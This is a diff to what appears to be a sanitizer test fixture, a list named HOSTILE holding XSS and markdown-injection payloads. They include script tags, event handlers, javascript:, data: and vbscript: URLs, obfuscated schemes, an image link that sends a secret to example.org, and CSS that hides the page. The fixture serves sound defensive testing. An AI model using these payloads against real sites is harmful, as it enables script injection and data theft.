@@ -25,7 +25,7 @@ export const ANSWER = [
 export const HOSTILE = [
   "<script>window.hacked = 1; alert(1)</script>",
   "",
-  "<img src=x onerror=\"window.hacked = 2\"> <b onmouseover=window.hacked=3>over</b>",
+  '<img src=x onerror="window.hacked = 2"> <b onmouseover=window.hacked=3>over</b>',
   "",
   "[link](javascript:window.hacked=4) [data](data:text/html,<script>window.hacked=5</script>) [vb](vbscript:x)",
   "[case](JaVaScRiPt:window.hacked=6) [entity](&#106;avascript:window.hacked=7) <javascript:window.hacked=8>",
@@ -33,7 +33,7 @@ export const HOSTILE = [
   "",
   "![exfiltrate](https://example.org/pixel.png?secret=1) ![data](data:image/svg+xml,<svg onload=alert(1)>)",
   "",
-  "<svg onload=\"window.hacked = 9\"><script>window.hacked = 10</script><animate onbegin=window.hacked=11 /></svg>",
+  '<svg onload="window.hacked = 9"><script>window.hacked = 10</script><animate onbegin=window.hacked=11 /></svg>',
   "",
   "<style>body { display: none !important; background: url(https://example.org/x) }</style>",
   "",
